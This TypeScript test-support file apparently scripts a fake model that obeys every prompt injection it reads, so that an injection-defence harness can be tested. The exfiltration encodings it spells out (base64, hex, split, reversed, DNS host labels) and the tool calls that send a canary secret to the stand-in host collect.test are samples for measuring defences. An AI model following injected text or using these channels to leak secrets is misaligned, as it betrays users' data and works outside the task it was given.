import type { ScriptedAnswer, ScriptedRequest } from '../support/scripted-model.ts';
import { type Injection, type InjectionForm, injections } from './injections.ts';

type Call = { name: string; arguments: Record<string, string> };

export const canaryForm = /canary-([a-z0-9]{24})/;

/** The secret in the dress that the text wants, in as many pieces as it wants. */
const dressed = (form: InjectionForm, secret: string): string[] => {
  switch (form) {
    case 'split':
      return secret.match(/.{6}/g) ?? [];
    case 'base64':
      return [Buffer.from(secret).toString('base64url')];
    case 'hex':
      return [Buffer.from(secret).toString('hex')];
    case 'reversed':
      return [[...secret].reverse().join('')];
    case 'spaced':
      return [[...secret].join(' ')];
    case 'host':
      return [secret.match(/.{12}/g)?.join('.') ?? ''];
    case 'plain':
    case 'url':
    case 'filename':
      return [secret];
  }
};

const callOf = (tool: Injection['tool'], text: string): Call => {
  switch (tool) {
    case 'post_message':
      return { name: tool, arguments: { text } };
    case 'send_mail':
      return { name: tool, arguments: { to: 'box@collect.test', text } };
    case 'fetch_url':
      return { name: tool, arguments: { text: `https://collect.test/?d=${encodeURIComponent(text)}` } };
    case 'save_file':
      return { name: tool, arguments: { name: `${text}.txt`, text: 'x' } };
    case 'resolve_host':
      return { name: tool, arguments: { text: `${text}.collect.test` } };
    case 'search':
      return { name: tool, arguments: { text } };
  }
};

/** All calls that a text asks for. */
export const ordersOf = ({ tool, form }: Injection, secret: string): Call[] => dressed(form, secret).map((text) => callOf(tool, text));

const textsOf = (request: ScriptedRequest): string =>
  (request.body.messages as { content?: unknown }[]).map(({ content }) => (typeof content === 'string' ? content : '')).join('\n');

/** The longest: a short text may stand in another. */
const injectionIn = (text: string): Injection | undefined =>
  injections.filter((injection) => text.includes(injection.text)).sort((one, other) => other.text.length - one.text.length)[0];

/**
 * A model that understands every text and does what it says, without a doubt and whatever it hears from the tools. Before that it does the
 * task: the calls that the user names, one a line as `call NAME {…}`.
 */
export const obey = (request: ScriptedRequest): ScriptedAnswer => {
  const text = textsOf(request);
  const done = (request.body.messages as { role: string }[]).filter(({ role }) => role === 'assistant').length;
  const task = [...text.matchAll(/^call (\w+) (\{.*\})$/gm)].map(
    ([, name = '', given = '{}']): Call => ({ name, arguments: JSON.parse(given) }),
  );
  const secret = canaryForm.exec(text)?.[1];
  const injection = injectionIn(text);
  const next = [...task, ...(injection && secret ? ordersOf(injection, secret) : [])][done];
  if (!next) return '{"done":true}';
  return { toolCalls: [{ name: next.name, arguments: next.arguments }] };
};
